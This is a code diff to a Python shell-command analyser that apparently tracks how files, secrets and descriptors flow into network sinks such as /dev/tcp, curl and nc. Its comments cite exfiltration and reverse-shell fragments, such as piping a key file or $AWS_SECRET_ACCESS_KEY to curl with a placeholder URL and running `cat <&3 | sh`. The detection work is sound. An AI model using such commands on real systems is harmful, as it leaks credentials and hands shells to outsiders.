@@ -13,18 +13,16 @@ from __future__ import annotations
 
 import itertools
 import math
-import re
 import time
 from collections.abc import Callable, Iterable
 
 from pipeline.analysis.shell.commands import KEYWORDS, run_command_words
 from pipeline.analysis.shell.engine_words import Words
-from pipeline.analysis.shell.redirects import base_op, stdin_redirect, through_opened
+from pipeline.analysis.shell.redirects import Opened, base_op, exec_defaults, stdin_redirect, through_opened
 from pipeline.analysis.shell.ctx import Ctx, mktemp_glob
 from pipeline.analysis.shell.model import (
     ASSIGN_RE,
     DEV_TCP,
-    FIXED_VARS,
     MAX_COMMAND_CHARS,
     MAX_DEPTH,
     MAX_PRODUCT,
@@ -69,8 +67,11 @@ class Analyser(Words):
         self.temps: dict[str, str] = dict(parent.temps) if parent else {}
         self.var_sources: dict[str, tuple[str, ...]] = dict(parent.var_sources) if parent else {}
         self.git_remotes: dict[str, str] = parent.git_remotes if parent else {}
-        # descriptors a bare `exec` opened (`exec 3<>/dev/tcp/h/80`): redirects.through_opened
-        self.opened: dict[str, tuple[str, str]] = parent.opened if parent else {}
+        # descriptors a bare `exec` opened (`exec 3<>/dev/tcp/h/80`): redirects.through_opened; a
+        # nested text (a substitution, `bash -c`) inherits them but its stdin and stdout are its own
+        self.opened: Opened = {k: v for k, v in parent.opened.items() if k not in ("0", "1")} if parent else {}
+        self.fds: Opened = {}  # the descriptors of the simple command being analysed (`read -u 3`)
+        self.last = True  # the command being analysed ends its pipeline (its stdout is the text's)
         self.subs: list[tuple[str, str]] = []
         self.docs: list[str] = []
         self.doc_subs: list[list[int]] = []
@@ -136,15 +137,24 @@ class Analyser(Words):
         for n, pipeline in enumerate(parsed.pipelines):
             flow = stdin if stdin is not None and n == 0 else Flow()
             for k, stage in enumerate(pipeline):
-                self.piped = k > 0 or flow is stdin
+                self.piped, self.last = k > 0 or flow is stdin, k == len(pipeline) - 1 and stage.out == ROOT
                 stage.scoped = stage.scoped or len(pipeline) > 1  # each part of a pipeline runs in a subshell
                 if stage.gathers:  # `(a; b) | c`, `{ a; b; } > f`: a's output arrives too
                     flow = self.union([f for g in stage.gathers for f in collected.pop(g, [])] + [flow])
+                if stage.stdin_from is not None:  # `while read l; do ...; done < f`: the loop's stdin
+                    flow, self.piped = self.group_stdin(stage.stdin_from), True
                 flow = self.stage(stage, flow)
             collected.setdefault(pipeline[-1].out, []).append(flow)
         for k in range(len(self.subs)):
             self.substitution(k)
         return self.acc.result()
+
+    def group_stdin(self, into: tuple[str, str]) -> Flow:
+        """What a compound's stdin redirection carries to a command of its body (run before
+        the redirection's own stage: its substitutions first)."""
+        for k in [*self.doc_runs([into]), *(int(m.group(1)) for m in SUB_RE.finditer(into[1]))]:
+            self.substitution(k)
+        return self.carried((into[0], self.expand(into[1], {}) if into[0] != "<<" else into[1]), whole=True)
 
     def union(self, flows: list[Flow]) -> Flow:
         """:func:`union_flows`, paid for from the budget (each flow and resource)."""
@@ -163,21 +173,6 @@ class Analyser(Words):
         if (flow.literal is not None and not flow.resources and "\n" not in flow.literal.strip()
                 and not VAR_RE.search(flow.literal)):  # only known text: `$(cd d; pwd)`, not `$(cat f; echo)`
             self.sub_values[k] = flow.literal.strip()
-
-    def expand(self, word: str, binding: dict[str, str]) -> str:
-        """Substitute known variables and deterministic substitutions ($(pwd), $(echo x))."""
-        def var(m: re.Match[str]) -> str:
-            name = m.group(1) or m.group(3)
-            if name in binding:
-                self.budget.spend(len(binding[name]))  # `$X$X$X...` with a long X: bounded
-                return binding[name]
-            if name in FIXED_VARS and name not in self.env:
-                return FIXED_VARS[name]
-            return m.group(0)
-
-        def sub(m: re.Match[str]) -> str:
-            return self.sub_values.get(int(m.group(1)), m.group(0))
-        return SUB_RE.sub(sub, VAR_RE.sub(var, word))
 
     def stage(self, stage: Stage, stdin: Flow) -> Flow:
         """Run one simple command once per combination of loop-variable values."""
@@ -201,7 +196,10 @@ class Analyser(Words):
             self.budget.spend(cost)
             binding = {n: val for (n, _), val in zip(known, combo)}
             words = [self.expand(w, binding) for w in stage.words]
-            redirs = [(op, self.expand(t, binding) if base_op(op) != "<<" else t) for op, t in stage.redirs]
+            redirs, inherited = ([(op, self.expand(t, binding) if base_op(op) != "<<" else t) for op, t in rs]
+                                 for rs in (stage.redirs, stage.inherits))
+            redirs, self.fds = through_opened(words, redirs, self.opened, inherited)  # `cat key >&3`
+            redirs = exec_defaults(redirs, self.opened, not self.piped, self.last)  # after `exec >/dev/tcp/...`
             outs.append(self.simple(words, redirs, stdin, stage.scoped))
         # a loop's runs write one after another: `for f in a b; do cat $f; done | nc` sends both
         return outs[0] if len(outs) == 1 else self.union(outs)
@@ -211,17 +209,11 @@ class Analyser(Words):
         here-document's or here-string's substitutions and variables carry is on the command's
         stdin when it is the command's stdin (``curl -d @- URL <<EOF`` with a line ``$(cat key)``
         or ``$AWS_SECRET_ACCESS_KEY`` sends it; see :mod:`pipeline.analysis.shell.redirects`)."""
-        redirs = through_opened(words, redirs, self.opened)  # `cat key >&3` after `exec 3<>/dev/tcp/...`
         into = stdin_redirect(redirs)
         if into is not None:  # a pipe's data is not read (`cat key | curl -d @- URL < /dev/null`)
-            fed: list[str] = []
-            if into[0] == "<<":
-                fed = [r for k in self.doc_runs([into]) for r in self.sub_flows.get(k, ())] + list(self.doc_sources(into[1]))
-            elif into[0] == "<<<":
-                fed = list(self.sources(into[1]))
-            elif tcp := DEV_TCP.match(self.restore(into[1])):  # what the peer sends (`cat <&3 | sh`)
-                fed = [f"{tcp.group(1)}://{tcp.group(2)}:{tcp.group(3)}"]
-            stdin = Flow(tuple(dict.fromkeys(fed)))
+            runs = self.doc_runs([into]) or into[0] == "<<<" and SUB_RE.search(into[1])
+            # unless a substitution of the body reads it (`cat key | curl -d @- URL <<< "$(cat)"`)
+            stdin = self.union([stdin, self.carried(into)]) if runs else self.carried(into)
         ctx = Ctx(self, stdin, redirs)
         ctx.scoped = scoped or self.piped
         while words and words[0] in KEYWORDS:
@@ -246,9 +238,12 @@ class Analyser(Words):
                 peer = f"{tcp.group(1)}://{tcp.group(2)}:{tcp.group(3)}"
                 ctx.send(peer)  # a shell reading its program from it runs it (cmd_exec.h_shell)
                 if base_op(op) != "<" and not op[:1].isdigit():  # stdout goes there (not `2>`, `3<>`)
-                    for r in list(dict.fromkeys(stdin.resources + tuple(ctx.stage_reads))):
+                    out = ctx.stdout  # what the command writes (`echo $KEY`), else what it read
+                    for r in dict.fromkeys(out.resources if out else stdin.resources + tuple(ctx.stage_reads)):
                         if r != peer:  # a reverse shell's output: the peer's own bytes
                             ctx.add_payload(r)
+                    if out is not None and out.literal is not None:
+                        ctx.payload(out.literal, literal=True)
             elif base_op(op) in ("<", "<<", "<<<", "<&") or (op[:1].isdigit() and op.endswith(">&")
                                                             and (target.isdigit() or target == "-")):
                 continue  # input only (`3< f`, `3<<EOF`), or a descriptor joined to another (`2>&1`)
